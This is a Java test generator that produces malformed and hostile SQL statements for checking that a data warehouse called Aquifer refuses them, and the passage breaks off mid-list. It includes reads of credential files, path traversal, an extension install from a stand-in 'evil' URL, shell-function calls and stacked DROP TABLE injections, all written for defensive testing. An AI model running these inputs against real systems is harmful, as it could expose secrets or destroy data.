package io.aquifer.conformance.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * A deterministic generator of malformed and hostile statements against the fixture schema {@code
 * target} (tables {@code t(a INT, b STRING, c DOUBLE)} and {@code u(id BIGINT, d DATE)}, view
 * {@code v}). The same seed gives the same statements, in the same order.
 *
 * <p>Nothing generated may change the warehouse if Aquifer behaves: statements that write name a
 * table that does not exist or are invalid in every prefix; statements that could be valid after
 * mutation only read (and are marked {@link HostileStatement#mayRead}).
 */
final class HostileStatements {
  private static final List<String> READS =
      List.of(
          "SELECT a, b, c FROM target.t WHERE a > 1 ORDER BY a",
          "SELECT count(*), sum(a), max(c) FROM target.t GROUP BY b HAVING count(*) > 0",
          "SELECT t.a, u.d FROM target.t t JOIN target.u u ON t.a = u.id WHERE u.d > DATE '2020-01-01'",
          "WITH x AS (SELECT a, b FROM target.t) SELECT b, a FROM x ORDER BY 1 LIMIT 5",
          "SELECT * FROM target.v WHERE b LIKE 'x%'",
          "SELECT a FROM target.t UNION ALL SELECT CAST(id AS INT) FROM target.u",
          "SELECT CASE WHEN a > 1 THEN 'big' ELSE 'small' END, coalesce(b, 'none') FROM target.t",
          "SELECT a, row_number() OVER (PARTITION BY b ORDER BY c DESC) FROM target.t",
          "SELECT * FROM target.t WHERE a IN (SELECT id FROM target.u) AND EXISTS (SELECT 1 FROM target.v)",
          "SELECT b, avg(c) FROM target.t VERSION AS OF 1 GROUP BY b",
          "SELECT x.a FROM target.t TABLESAMPLE (50 PERCENT) REPEATABLE (3) x WHERE x.a > 1",
          "SELECT count(*) FROM target.t TABLESAMPLE (BUCKET 1 OUT OF 4) JOIN target.u ON a = id",
          "SELECT * FROM target.t TABLESAMPLE (2 ROWS) AS s ORDER BY 1");

  /** Writes whose every prefix fails: the target table does not exist. */
  private static final List<String> WRITES_TO_MISSING =
      List.of(
          "INSERT INTO target.missing VALUES (1, 'x', 2.0)",
          "INSERT INTO target.missing SELECT a, b, c FROM target.t",
          "UPDATE target.missing SET a = a + 1 WHERE b = 'x'",
          "DELETE FROM target.missing WHERE a = 1",
          "MERGE INTO target.missing m USING target.t s ON m.a = s.a WHEN MATCHED THEN UPDATE SET b = s.b",
          "DROP TABLE target.missing",
          "DROP VIEW target.missing",
          "DROP SCHEMA missing_schema CASCADE");

  private static final List<String> ENGINE_TABLE_FUNCTIONS =
      List.of(
          "read_csv",
          "read_csv_auto",
          "read_parquet",
          "parquet_scan",
          "read_json",
          "read_json_auto",
          "read_ndjson",
          "read_text",
          "read_blob",
          "glob",
          "sniff_csv",
          "parquet_metadata",
          "parquet_schema",
          "delta_scan",
          "iceberg_scan",
          "read_xlsx",
          "duckdb_settings",
          "duckdb_extensions",
          "duckdb_databases",
          "duckdb_tables",
          "duckdb_secrets",
          "duckdb_functions",
          "pragma_version",
          "pragma_database_list",
          "query",
          "query_table",
          "sqlite_scan",
          "postgres_scan",
          "range",
          "generate_series",
          "repeat_row",
          "unnest");

  private static final List<String> ENGINE_SCALAR_FUNCTIONS =
      List.of(
          "getenv",
          "current_setting",
          "version",
          "read_text",
          "current_database",
          "txid_current",
          "pg_typeof",
          "typeof",
          "error",
          "setseed",
          "md5_number",
          "current_schemas",
          "getvariable",
          "nextval",
          "currval",
          "enum_range");

  private static final List<String> ENGINE_STATEMENTS =
      List.of(
          "COPY target.t TO '/tmp/aquifer-hostile.csv'",
          "COPY (SELECT * FROM target.t) TO '/tmp/aquifer-hostile.parquet' (FORMAT PARQUET)",
          "COPY target.t FROM '/etc/passwd'",
          "ATTACH '/tmp/aquifer-hostile.db' AS x",
          "ATTACH ':memory:' AS m",
          "DETACH target",
          "INSTALL httpfs",
          "INSTALL 'https://example.com/evil.duckdb_extension'",
          "LOAD httpfs",
          "LOAD '/tmp/evil.duckdb_extension'",
          "FORCE INSTALL httpfs",
          "PRAGMA database_list",
          "PRAGMA enable_profiling",
          "PRAGMA threads=1",
          "SET enable_external_access = true",
          "SET allowed_directories = ['/']",
          "SET memory_limit = '100GB'",
          "SET threads = 64",
          "SET GLOBAL lock_configuration = false",
          "RESET allowed_directories",
          "EXPORT DATABASE '/tmp/aquifer-hostile-export'",
          "IMPORT DATABASE '/tmp/aquifer-hostile-export'",
          "CALL pragma_version()",
          "CHECKPOINT",
          "VACUUM ANALYZE target.t",
          "CREATE SECRET s (TYPE S3, KEY_ID 'x', SECRET 'y')",
          "CREATE MACRO m(x) AS x + 1",
          "CREATE FUNCTION f(x) AS x + 1",
          "CREATE SEQUENCE target.seq",
          "CREATE TYPE mood AS ENUM ('sad', 'ok')",
          "CREATE TEMP TABLE tmp AS SELECT 1",
          "SUMMARIZE target.t",
          "DESCRIBE SELECT * FROM target.t",
          "FROM target.t",
          "FROM target.t SELECT a",
          "PIVOT target.t ON b USING sum(a)",
          "UNPIVOT target.t ON a, c INTO NAME k VALUE v",
          "USE memory",
          "SHOW ALL TABLES",
          "BEGIN TRANSACTION",
          "COMMIT",
          "ROLLBACK",
          // DuckDB and PostgreSQL spellings that Databricks refuses (the Databricks forms,
          // ADD COLUMN, RENAME COLUMN, DROP COLUMN and TRUNCATE TABLE, are supported statements)
          "ALTER TABLE target.t RENAME a TO a2",
          "ALTER TABLE target.t ADD z INT",
          "ALTER TABLE target.t DROP a",
          "TRUNCATE target.t",
          "GRANT ALL ON target.t TO someone",
          "REVOKE ALL ON ALL TABLES IN SCHEMA target FROM admin",
          // the read-only system catalog takes only reading privileges, and has no owner to change
          "GRANT MODIFY ON TABLE system.access.audit TO admin",
          "GRANT ALL PRIVILEGES ON CATALOG system TO admin",
          "GRANT SELECT ON TABLE system.access.nothing TO admin",
          "ALTER TABLE system.query.history OWNER TO admin",
          "INSERT OR REPLACE INTO target.t VALUES (1, 'x', 1.0)",
          "REPLACE INTO target.t VALUES (1, 'x', 1.0)",
          "UPSERT INTO target.t VALUES (1, 'x', 1.0)",
          "LOAD DATA INPATH '/etc/passwd' INTO TABLE target.t",
          // Table maintenance that must not run: a spelling Databricks refuses, a RESTORE target
          // that is no version, a VACUUM retention below the table's with the check on.
          "OPTIMIZE TABLE target.t",
          "RESTORE TABLE target.t TO SAVEPOINT s0",
          "VACUUM target.t RETAIN 0 HOURS",
          "CLONE target.t",
          "CREATE TABLE target.t2 DEEP CLONE target.t",
          "CREATE TABLE target.t2 SHALLOW CLONE target.t LOCATION '/tmp/aquifer-hostile-clone'",
          "ANALYZE TABLE target.t COMPUTE STATISTICS");

  private static final List<String> PATHS =
      List.of(
          "/etc/passwd",
          "/etc/hosts",
          "/proc/self/environ",
          "/root/.m2/settings.xml",
          "~/.ssh/id_rsa",
          "../../../../etc/passwd",
          "file:///etc/passwd",
          "https://example.com/data.parquet",
          "s3://bucket/key.parquet",
          "gs://bucket/x.csv",
          "az://container/x",
          "hf://datasets/x",
          "/tmp/*.parquet",
          "/**/*.parquet",
          "\\\\server\\share\\x.csv",
          "C:\\Windows\\win.ini");

  private static final List<String> SAFE_KEYWORDS =
      List.of(
          "SELECT",
          "FROM",
          "WHERE",
          "GROUP",
          "BY",
          "ORDER",
          "HAVING",
          "LIMIT",
          "OFFSET",
          "JOIN",
          "ON",
          "LEFT",
          "OUTER",
          "UNION",
          "ALL",
          "DISTINCT",
          "AS",
          "AND",
          "OR",
          "NOT",
          "IN",
          "IS",
          "NULL",
          "CASE",
          "WHEN",
          "THEN",
          "ELSE",
          "END",
          "CAST",
          "INT",
          "STRING",
          "WITH",
          "OVER",
          "PARTITION",
          "EXISTS",
          "BETWEEN",
          "LIKE",
          "TRUE",
          "FALSE",
          "VALUES",
          "LATERAL",
          "QUALIFY",
          "WINDOW",
          "ROWS",
          "RANGE",
          "INTERVAL",
          "DATE",
          "TIMESTAMP",
          "ARRAY",
          "MAP",
          "STRUCT",
          "ANY",
          "SOME",
          "target.t",
          "target.u",
          "target.v",
          "a",
          "b",
          "c",
          "id",
          "d",
          "t",
          "u",
          "x",
          "1",
          "2.5",
          "'s'",
          "-1",
          "1e308",
          "?",
          "*",
          "(",
          ")",
          ",",
          ";",
          ".",
          "+",
          "-",
          "/",
          "%",
          "=",
          "<>",
          "<",
          ">",
          "||",
          "::",
          "[",
          "]",
          "{",
          "}",
          "`",
          "\"",
          "'",
          "--",
          "/*",
          "*/",
          "$1",
          "@x",
          "#",
          "\\",
          "!",
          "^",
          "&",
          "|",
          "~");

  private static final String[] UNICODE =
      new String[] {
        "é",
        "ß",
        "Ω",
        "Ж",
        "中文",
        "日本語",
        "한국어",
        "עברית",
        "العربية",
        "हिन्दी",
        "😀",
        "👩‍👩‍👧",
        "🏳️‍🌈",
        "\u200B",
        "\u200E",
        "\u202E",
        "\uFEFF",
        "\u0000",
        "\u0007",
        "\u001B[31m",
        "\uD800",
        "\uDFFF",
        "\uFFFD",
        "\uFFFF",
        "e\u0301",
        "Å",
        "ﬁ",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
        "\r\n",
        "\t",
        "\u2028"
      };

  private final Random random;
  private final String dataDirectory;
  private final List<HostileStatement> out = new ArrayList<>();

  private HostileStatements(long seed, String dataDirectory) {
    this.random = new Random(seed);
    this.dataDirectory = dataDirectory;
  }

  /** At least {@code minimum} statements, the same for the same seed and data directory. */
  static List<HostileStatement> generate(long seed, String dataDirectory, int minimum) {
    HostileStatements g = new HostileStatements(seed, dataDirectory);
    g.truncations();
    g.checkConstraints();
    g.generatedColumns();
    g.deepNesting();
    g.hugeLiteralsAndIdentifiers();
    g.unknownFunctions();
    g.typeErrors();
    g.engineFunctionsAndPaths();
    g.engineStatements();
    g.multipleStatements();
    g.unicode();
    g.badWrites();
    g.badDdl();
    g.badSamples();
    while (g.out.size() < minimum) {
      g.randomTokens();
      g.randomCharacters();
      g.mutatedReads();
    }
    return List.copyOf(g.out);
  }

  /** TABLESAMPLE forms Databricks refuses, and stars over what is no struct. */
  private void badSamples() {
    for (String sample :
        List.of(
            "(101 PERCENT)",
            "(-1 PERCENT)",
            "(BUCKET 3 OUT OF 2)",
            "(BUCKET 1 OUT OF 0)",
            "(BUCKET 1 OUT OF 2 ON a)",
            "(BUCKET 1 OUT OF 2 ON rand())",
            "(10M)",
            "()",
            "(10 PERCENT) REPEATABLE (x)",
            "(10 PERCENT) REPEATABLE (99999999999999999999)",
            "(1.5 ROWS)",
            "(-3 ROWS)",
            "(10 PERCENT) AS",
            "(10 PERCENT")) {
      mustFail("bad sample", "SELECT * FROM target.t TABLESAMPLE " + sample);
    }
    mustFail("bad sample", "SELECT TABLESAMPLE (10 PERCENT) FROM target.t");
    mustFail("bad struct star", "SELECT a.* FROM target.t");
    mustFail("bad struct star", "SELECT nothing.* FROM target.t");
    mustFail("bad struct star", "SELECT t.a.* FROM target.t");
  }

  private void add(String category, String sql, boolean mayRead) {
    out.add(new HostileStatement(category, sql, mayRead));
  }

  private void mustFail(String category, String sql) {
    add(category, sql, false);
  }

  /** Every prefix of valid reads (which may still be valid) and of writes to a missing table. */
  private void truncations() {
    for (String sql : READS) {
      for (int end = 0; end < sql.length(); end += 1 + random.nextInt(3)) {
        add("truncated", sql.substring(0, end), true);
      }
    }
    for (String sql : WRITES_TO_MISSING) {
      for (int end = 0; end < sql.length(); end += 1 + random.nextInt(2)) {
        mustFail("truncated", sql.substring(0, end));
      }
      mustFail("write to missing table", sql);
    }
  }

  /**
   * CHECK constraints that must be refused (not boolean, not deterministic, a subquery or an
   * aggregate, a name that does not exist, other kinds of constraint) and every prefix of a valid
   * one: none may record a constraint.
   */
  /** Generated columns Databricks refuses, and explicit values that differ from the expression. */
  private void generatedColumns() {
    for (String sql :
        List.of(
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS (c + 1))",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS (a), c INT GENERATED ALWAYS"
                + " AS (b))",
            "CREATE TABLE target.g (a INT, b DOUBLE GENERATED ALWAYS AS (rand()))",
            "CREATE TABLE target.g (a INT, b BIGINT GENERATED ALWAYS AS (count(*)))",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS ((SELECT max(id) FROM"
                + " target.u)))",
            "CREATE TABLE target.g (a INT, b DATE GENERATED ALWAYS AS (a))",
            "CREATE TABLE target.g (a DECIMAL(20, 2), b DECIMAL(5, 0) GENERATED ALWAYS AS (a))",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS ())",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS (a + 1)",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS a + 1)",
            "CREATE TABLE target.g (a INT, b INT GENERATED BY DEFAULT AS (a + 1))",
            "CREATE TABLE target.g (a INT, b INT DEFAULT 1 GENERATED ALWAYS AS (a + 1))",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS (a + 1); DROP TABLE"
                + " target.t)",
            "CREATE TABLE target.g (a INT, b INT GENERATED ALWAYS AS (a + 1)) AS SELECT 1, 2",
            "CREATE TABLE target.g (id BIGINT GENERATED ALWAYS AS IDENTITY, a INT)")) {
      mustFail("generated column", sql);
    }
  }

  private void checkConstraints() {
    String valid = "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a > 0 OR b IS NULL)";
    for (int end = 0; end < valid.length(); end += 1 + random.nextInt(3)) {
      mustFail("check constraint", valid.substring(0, end));
    }
    for (String sql :
        List.of(
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (b)",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a + 1)",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (rand() < 2)",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a > (SELECT max(id) FROM target.u))",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (sum(a) > 0)",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (nope > 0)",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK ()",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a > 0), true) OR (true",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a > 0) extra",
            "ALTER TABLE target.t ADD CONSTRAINT c CHECK (a > 0); DROP TABLE target.t",
            "ALTER TABLE target.t ADD CONSTRAINT CHECK (a > 0)",
            "ALTER TABLE target.t ADD CONSTRAINT c PRIMARY KEY (a)",
            "ALTER TABLE target.t ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES target.u (id)",
            "ALTER TABLE target.missing ADD CONSTRAINT c CHECK (a > 0)",
            "ALTER TABLE target.v ADD CONSTRAINT c CHECK (a > 0)",
            "ALTER TABLE target.t DROP CONSTRAINT missing",
            "ALTER TABLE target.t DROP CONSTRAINT",
            "CREATE TABLE target.t2 (a INT, CONSTRAINT c CHECK (a > 0))",
            "CREATE TABLE target.t2 (a INT) TBLPROPERTIES ('delta.constraints.c' = 'a > 0')",
            "ALTER TABLE target.t SET TBLPROPERTIES ('delta.constraints.c' = 'a > 0')")) {
      mustFail("check constraint", sql);
    }
  }

  private void deepNesting() {
    for (int depth : new int[] {64, 256, 1000, 3000, 10_000}) {
      add("deep nesting", "SELECT " + "(".repeat(depth) + "1" + ")".repeat(depth), true);
      add("deep nesting", "SELECT " + "abs(".repeat(depth) + "-1" + ")".repeat(depth), true);
      add("deep nesting", "SELECT " + "NOT ".repeat(depth) + "true", true);
      add("deep nesting", "SELECT " + "-".repeat(depth) + "1", true);
      add("deep nesting", "SELECT 1" + " + 1".repeat(depth), true);
      add(
          "deep nesting",
          "SELECT a FROM target.t WHERE " + "a = 1 OR ".repeat(depth) + "a = 2",
          true);
      add(
          "deep nesting",
          "SELECT "
              + "CASE WHEN a > 0 THEN ".repeat(depth)
              + "1"
              + " END".repeat(depth)
              + " FROM target.t",
          true);
      add(
          "deep nesting",
          "SELECT * FROM " + "(SELECT * FROM ".repeat(depth) + "target.t" + ") s".repeat(depth),
          true);
      add(
          "deep nesting",
          "SELECT a FROM target.t WHERE a IN "
              + "(SELECT a FROM target.t WHERE a IN ".repeat(depth)
              + "(1)"
              + ")".repeat(depth),
          true);
      add("deep nesting", "SELECT 1 / " + "(1 / ".repeat(depth) + "1" + ")".repeat(depth), true);
      add("deep nesting", "SELECT " + "ARRAY(".repeat(depth) + "1" + ")".repeat(depth), true);
      add(
          "deep nesting",
          "WITH " + String.join(", ", ctes(Math.min(depth, 2000))) + " SELECT * FROM c0",
          true);
      mustFail("deep nesting", "SELECT " + "(".repeat(depth) + "1");
      mustFail(
          "deep nesting",
          "INSERT INTO target.missing VALUES " + "(".repeat(depth) + "1" + ")".repeat(depth));
    }
  }

  private static List<String> ctes(int n) {
    List<String> ctes = new ArrayList<>();
    for (int i = n - 1; i >= 0; i--) {
      ctes.add("c" + i + " AS (SELECT * FROM " + (i == n - 1 ? "target.t" : "c" + (i + 1)) + ")");
    }
    return ctes;
  }

  private void hugeLiteralsAndIdentifiers() {
    for (int size : new int[] {1_000, 100_000, 1_000_000}) {
      String big = "x".repeat(size);
      add("huge literal", "SELECT '" + big + "'", true);
      add("huge literal", "SELECT length('" + big + "') FROM target.t", true);
      mustFail("huge literal", "SELECT '" + big);
      mustFail(
          "huge literal", "SELECT " + "9".repeat(Math.min(size, 100_000)) + " + a FROM target.t");
      mustFail("huge literal", "INSERT INTO target.missing VALUES ('" + big + "')");
      mustFail(
          "huge literal",
          "SELECT * FROM target.t WHERE a = " + "1".repeat(Math.min(size, 50_000)) + "e99999");
      add("huge literal", "SELECT X'" + "ab".repeat(Math.min(size, 500_000)) + "'", true);
    }
    for (int n : new int[] {1_000, 10_000, 100_000}) {
      StringBuilder list = new StringBuilder();
      for (int i = 0; i < n; i++) {
        list.append(i == 0 ? "" : ",").append(random.nextInt());
      }
      add("huge literal", "SELECT a FROM target.t WHERE a IN (" + list + ")", true);
      mustFail("huge literal", "SELECT a FROM target.t WHERE a IN (" + list + ",)");
      add("huge literal", "SELECT " + list, true);
    }
    for (int length : new int[] {256, 1_000, 10_000, 100_000}) {
      String id = "i" + "d".repeat(length - 1);
      mustFail("long identifier", "SELECT " + id + " FROM target.t");
      mustFail("long identifier", "SELECT * FROM target." + id);
      mustFail("long identifier", "SELECT * FROM " + id + "." + id + "." + id);
      mustFail("long identifier", "CREATE TABLE target." + id + " (a INT)");
      mustFail("long identifier", "CREATE TABLE target.ok_name (" + id + " INT)");
      mustFail("long identifier", "CREATE SCHEMA " + id);
      mustFail("long identifier", "CREATE VIEW target." + id + " AS SELECT 1");
      add("long identifier", "SELECT a AS " + id + " FROM target.t", true);
      add("long identifier", "SELECT `" + id + "` FROM target.t", false);
    }
  }

  private void unknownFunctions() {
    for (int i = 0; i < 400; i++) {
      String name = randomName(3 + random.nextInt(20));
      String args =
          switch (random.nextInt(4)) {
            case 0 -> "";
            case 1 -> "1";
            case 2 -> "a, b";
            default -> "'x', NULL, 2.5";
          };
      mustFail("unknown function", "SELECT " + name + "(" + args + ") FROM target.t");
    }
    for (String name :
        List.of(
            "system",
            "exec",
            "shell",
            "eval",
            "load_extension",
            "lo_import",
            "xp_cmdshell",
            "sleep",
            "pg_sleep",
            "benchmark",
            "dbms_pipe.receive_message")) {
      mustFail("unknown function", "SELECT " + name + "('id')");
    }
  }

  private void typeErrors() {
    List<String> must =
        List.of(
            "SELECT 'a' + DATE '2024-01-01'",
            "SELECT DATE '2024-01-01' * 2",
            "SELECT NOT 5",
            "SELECT a AND b FROM target.t",
            "SELECT sum(d) FROM target.u",
            "SELECT avg(b > 'x') FROM target.t",
            "SELECT ARRAY(1, 2) + 1",
            "SELECT a FROM target.t WHERE a",
            "SELECT * FROM target.t WHERE a = ARRAY(1)",
            "SELECT CAST(ARRAY(1) AS INT)",
            "SELECT CAST(d AS INT) FROM target.u",
            "SELECT a FROM target.t GROUP BY b",
            "SELECT max(a), a FROM target.t",
            "SELECT sum(sum(a)) FROM target.t",
            "SELECT a FROM target.t WHERE sum(a) > 1",
            "SELECT row_number() FROM target.t",
            "SELECT a FROM target.t LIMIT -1",
            "SELECT a FROM target.t LIMIT 'x'",
            "SELECT CAST('abc' AS INT)",
            "SELECT CAST('2024-13-45' AS DATE)",
            "SELECT 1 / 0",
            "SELECT a / 0 FROM target.t",
            "SELECT 2147483647 + a FROM target.t",
            "SELECT 9223372036854775807 * 2",
            "SELECT a FROM target.t WHERE b = 1",
            "SELECT substring(1, 'a')",
            "SELECT t.nosuch FROM target.t",
            "SELECT nosuch.a FROM target.t",
            "SELECT a FROM target.t, target.t",
            "SELECT * FROM target.t JOIN target.u ON a",
            "SELECT 1 UNION SELECT 1, 2",
            "SELECT a FROM target.t VERSION AS OF 999999",
            "SELECT a FROM target.t TIMESTAMP AS OF '1900-01-01'",
            "SELECT a FROM target.t VERSION AS OF -1");
    for (String sql : must) {
      mustFail("type error", sql);
    }
    String[] values = {
      "1",
      "'x'",
      "2.5",
      "NULL",
      "DATE '2024-01-01'",
      "TRUE",
      "ARRAY(1)",
      "X'00'",
      "1e10",
      "a",
      "b",
      "c"
    };
    String[] ops = {"+", "-", "*", "/", "%", "||", "=", "<", "AND", "OR", "LIKE", "IN"};
    for (int i = 0; i < 300; i++) {
      String l = values[random.nextInt(values.length)];
      String r = values[random.nextInt(values.length)];
      String op = ops[random.nextInt(ops.length)];
      String rhs = op.equals("IN") ? "(" + r + ")" : r;
      add("type error", "SELECT " + l + " " + op + " " + rhs + " FROM target.t", true);
    }
  }

  private void engineFunctionsAndPaths() {
    String warehouseFiles = dataDirectory + "/warehouse/main/target/**/*.parquet";
    List<String> paths = new ArrayList<>(PATHS);
    paths.add(warehouseFiles);
    paths.add(dataDirectory + "/catalog.db");
    paths.add(dataDirectory + "/admin-token");
    for (String fn : ENGINE_TABLE_FUNCTIONS) {
      for (String path : paths) {
        String lit = "'" + path.replace("'", "''") + "'";
        mustFail("engine function", "SELECT * FROM " + fn + "(" + lit + ")");
        if (random.nextInt(3) == 0) {
          mustFail("engine function", "SELECT " + fn + "(" + lit + ")");
          mustFail(
              "engine function",
              "WITH x AS (SELECT * FROM " + fn + "(" + lit + ")) SELECT * FROM x");
          mustFail(
              "engine function", "SELECT * FROM target.t JOIN " + fn + "(" + lit + ") f ON true");
          mustFail("engine function", "INSERT INTO target.t SELECT * FROM " + fn + "(" + lit + ")");
        }
      }
      mustFail("engine function", "SELECT * FROM " + fn + "()");
    }
    for (String fn : ENGINE_SCALAR_FUNCTIONS) {
      // Some names are Databricks functions too (version(), current_database()): reads at most.
      add("engine function", "SELECT " + fn + "('HOME')", true);
      add("engine function", "SELECT " + fn + "()", true);
    }
    for (String path : paths) {
      String lit = path.replace("'", "''");
      mustFail("file path", "SELECT * FROM '" + lit + "'");
      mustFail("file path", "SELECT * FROM \"" + path + "\"");
      mustFail("file path", "SELECT * FROM `" + path + "`");
      mustFail("file path", "SELECT * FROM parquet.`" + path + "`");
      mustFail("file path", "SELECT * FROM delta.`" + path + "`");
      mustFail("file path", "SELECT * FROM csv.`" + path + "`");
      mustFail("file path", "CREATE TABLE target.ext LOCATION '" + lit + "'");
      mustFail("file path", "CREATE TABLE target.ext (a INT) LOCATION '" + lit + "'");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = CSV");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = PARQUET");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = JSON");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = TEXT");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = BINARYFILE");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = AVRO");
      mustFail("file path", "COPY INTO target.t FROM '" + lit + "' FILEFORMAT = ORC");
      mustFail(
          "file path", "COPY INTO target.t FROM (SELECT * FROM '" + lit + "') FILEFORMAT = CSV");
      mustFail("file path", "SELECT * FROM read_files('" + lit + "')");
      mustFail("file path", "SELECT * FROM read_files('" + lit + "', format => 'binaryFile')");
      mustFail("file path", "SELECT * FROM read_files('" + lit + "', format => 'avro')");
      mustFail("file path", "SELECT * FROM read_files('" + lit + "', format => 'orc')");
      mustFail(
          "file path", "SELECT * FROM read_files('" + lit + "', format => 'xml', rowTag => 'r')");
      mustFail(
          "file path", "SELECT * FROM read_files('/Volumes/main/target/v/../../../.." + lit + "')");
      mustFail(
          "file path",
          "COPY INTO target.t FROM '/Volumes/main/target/v' FILEFORMAT = CSV FILES = ('../../../.."
              + lit
              + "')");
      mustFail("file path", "LIST '" + lit + "'");
      mustFail("file path", "CREATE EXTERNAL VOLUME target.v LOCATION '" + lit + "'");
      mustFail("file path", "LIST '/Volumes/main/target/v/../../../.." + lit + "'");
    }
    mustFail(
        "file path",
        "CREATE TABLE target.ext LOCATION '" + dataDirectory + "/warehouse/main/target'");
    mustFail(
        "file path",
        "CREATE TABLE target.ext LOCATION '" + dataDirectory + "/external/../warehouse'");
    mustFail("file path", "CREATE TABLE target.ext LOCATION '" + dataDirectory + "/external/none'");
    mustFail("file path", "CREATE TABLE target.ext LOCATION 'relative/path'");
    // Parsing options of the wrong kind or value: refused, nothing read or written.
    String v = "'/Volumes/main/target/v'";
    for (String option :
        List.of(
            "dateFormat => 'yyyy-Q'",
            "timestampFormat => 'yyyy-MM-dd[ HH]'",
            "dateFormat => ''",
            "encoding => 'EBCDIC'",
            "schemaHints => 'a NOTATYPE'",
            "schemaHints => 'a INT,'",
            "rescuedDataColumn => ''",
            "inferSchema => 'maybe'")) {
      mustFail(
          "file option", "SELECT * FROM read_files(" + v + ", format => 'csv', " + option + ")");
    }
    for (String option :
        List.of(
            "'dateFormat' = 'yyyy-Q'",
            "'timestampFormat' = 'G yyyy'",
            "'encoding' = 'EBCDIC'",
            "'charset' = 'UTF-32'",
            "'inferSchema' = 'maybe'",
            "'rescuedDataColumn' = ''")) {
      mustFail(
          "file option",
          "COPY INTO target.t FROM " + v + " FILEFORMAT = CSV FORMAT_OPTIONS (" + option + ")");
    }
    // Unknown formats, and options Avro, ORC and XML do not take.
    for (String format :
        List.of("YAML", "AVRO2", "'AVRO'", "PARQUET.AVRO", "DELTA", "'ORC'", "'XML'", "XML")) {
      mustFail("file format", "COPY INTO target.t FROM " + v + " FILEFORMAT = " + format);
    }
    for (String format :
        List.of(
            "'yaml'", "'avro2'", "'delta'", "1", "NULL", "avro", "orc", "'orc2'", "'xml'", "xml")) {
      mustFail("file format", "SELECT * FROM read_files(" + v + ", format => " + format + ")");
    }
    for (String option :
        List.of(
            "'header' = 'true'",
            "'mode' = 'PERMISSIVE'",
            "'rescuedDataColumn' = '_r'",
            "'avroSchema' = '{}'")) {
      mustFail(
          "file option",
          "COPY INTO target.t FROM " + v + " FILEFORMAT = AVRO FORMAT_OPTIONS (" + option + ")");
    }
    mustFail(
        "file option",
        "SELECT * FROM read_files(" + v + ", format => 'avro', rescuedDataColumn => '_r')");
    mustFail(
        "file option", "SELECT * FROM read_files(" + v + ", format => 'avro', avroSchema => '{}')");
    for (String option :
        List.of("'header' = 'true'", "'mergeSchema' = 'true'", "'rescuedDataColumn' = '_r'")) {
      mustFail(
          "file option",
          "COPY INTO target.t FROM " + v + " FILEFORMAT = ORC FORMAT_OPTIONS (" + option + ")");
    }
    mustFail(
        "file option",
        "SELECT * FROM read_files(" + v + ", format => 'orc', rescuedDataColumn => '_r')");
    // XML: rowTag required and an element name; no other option.
    for (String rowTag : List.of("''", "'<book>'", "'a b'", "'book/page'", "NULL", "'&xxe;'")) {
      mustFail(
          "file option",
          "SELECT * FROM read_files(" + v + ", format => 'xml', rowTag => " + rowTag + ")");
      mustFail(
          "file option",
          "COPY INTO target.t FROM "
              + v
              + " FILEFORMAT = XML FORMAT_OPTIONS ('rowTag' = "
              + rowTag
              + ")");
    }
    for (String option :
        List.of(
            "'header' = 'true'",
            "'rescuedDataColumn' = '_r'",
            "'rowValidationXSDPath' = '/etc/passwd'",
            "'valueTag' = ''",
            "'valueTag' = '_'",
            "'attributePrefix' = 'v', 'valueTag' = 'v'",
            "'excludeAttribute' = 'maybe'",
            "'ignoreNamespace' = 'sometimes'")) {
      mustFail(
          "file option",
          "COPY INTO target.t FROM "
              + v
              + " FILEFORMAT = XML FORMAT_OPTIONS ('rowTag' = 'book', "
              + option
              + ")");
    }
    mustFail(
        "file option",
        "SELECT * FROM read_files("
            + v
            + ", format => 'xml', rowTag => 'b', rescuedDataColumn => '_r')");
    // XML's options: bad values, and for other formats.
    for (String option :
        List.of(
            "valueTag => ''",
            "valueTag => '_'",
            "attributePrefix => 'v', valueTag => 'v'",
            "excludeAttribute => 'maybe'",
            "ignoreNamespace => 'sometimes'")) {
      mustFail(
          "file option",
          "SELECT * FROM read_files(" + v + ", format => 'xml', rowTag => 'b', " + option + ")");
    }
    mustFail(
        "file option",
        "SELECT * FROM read_files(" + v + ", format => 'csv', attributePrefix => '@')");
    mustFail(
        "file option",
        "COPY INTO target.t FROM " + v + " FILEFORMAT = CSV FORMAT_OPTIONS ('valueTag' = 'v')");
  }

  private void engineStatements() {
    for (String sql : ENGINE_STATEMENTS) {
      mustFail("engine statement", sql);
      mustFail("engine statement", sql.toLowerCase(java.util.Locale.ROOT));
      mustFail("engine statement", "/* hidden */ " + sql);
      mustFail("engine statement", "  \n\t" + sql + " ;");
      mustFail("engine statement", "(" + sql + ")");
      mustFail("engine statement", "EXPLAIN " + sql);
      mustFail("engine statement", "EXPLAIN ANALYZE " + sql);
      mustFail("engine statement", "SELECT * FROM (" + sql + ")");
    }
  }

  private void multipleStatements() {
    List<String> seconds = new ArrayList<>(ENGINE_STATEMENTS);
    seconds.addAll(
        List.of(
            "DROP TABLE target.t",
            "DROP SCHEMA target CASCADE",
            "DELETE FROM target.t",
